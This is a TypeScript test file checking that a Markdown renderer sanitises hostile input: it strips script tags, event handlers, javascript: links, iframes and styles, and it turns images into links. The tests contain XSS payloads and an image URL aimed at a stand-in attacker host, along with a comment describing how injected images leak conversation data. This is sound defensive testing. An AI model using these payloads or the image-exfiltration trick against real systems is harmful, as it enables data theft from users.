import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("renders emphasis, lists and code", () => {
    const html = renderMarkdown("**bold**\n\n- one\n- two\n\n`x`");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<code>x</code>");
  });

  it("removes event handlers and scripts from raw HTML", () => {
    const html = renderMarkdown('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>');
    expect(html).not.toMatch(/onerror/i);
    expect(html).not.toMatch(/<script/i);
  });

  it("drops javascript: links but keeps https links, opening them in a new tab", () => {
    const html = renderMarkdown("[bad](javascript:alert(1)) [good](https://example.com/a)");
    expect(html).not.toContain("javascript:");
    const doc = new DOMParser().parseFromString(html, "text/html");
    const good = [...doc.querySelectorAll("a")].find((a) => a.textContent === "good");
    expect(good?.getAttribute("href")).toBe("https://example.com/a");
    expect(good?.getAttribute("target")).toBe("_blank");
    expect(good?.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("strips inline styles and iframes", () => {
    const html = renderMarkdown('<p style="position:fixed">x</p><iframe src="https://evil"></iframe>');
    expect(html).not.toContain("style=");
    expect(html).not.toContain("iframe");
  });

  it("never loads images: a Markdown image becomes a link and raw <img> tags are removed", () => {
    // An injected `![](https://evil/?q=<conversation>)` would be fetched as soon as it is rendered.
    const html = renderMarkdown(
      '![the chart](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png"> ' +
        '<img src="/static/z.png"> ![](https://evil.example/w.png)',
    );
    const doc = new DOMParser().parseFromString(html, "text/html");
    expect(doc.querySelectorAll("img")).toHaveLength(0);
    expect(html).not.toContain("y.png");
    const links = [...doc.querySelectorAll("a")];
    const chart = links.find((a) => a.textContent === "the chart");
    expect(chart?.getAttribute("href")).toBe("https://evil.example/x.png?q=secret");
    expect(chart?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(links.some((a) => a.getAttribute("href") === "https://evil.example/w.png")).toBe(true);
  });

  it("escapes the alt text of an image it turns into a link", () => {
    const html = renderMarkdown('![<b onclick="x()">hi</b>](https://example.com/p.png)');
    const doc = new DOMParser().parseFromString(html, "text/html");
    expect(doc.querySelector("img, b, [onclick]")).toBeNull();
    expect(doc.querySelector("a")?.textContent).toBe('<b onclick="x()">hi</b>');
  });
});
